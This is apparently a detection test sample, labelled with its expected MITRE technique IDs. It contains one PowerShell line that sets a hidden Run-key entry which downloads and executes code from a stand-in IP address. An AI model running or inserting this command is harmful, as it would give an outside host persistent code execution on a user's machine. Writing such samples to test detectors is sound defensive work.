# expect: T1547.001 T1059.001 T1105
[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run', 'x', 'powershell -w hidden -c iex(irm http://198.51.100.1/r)')
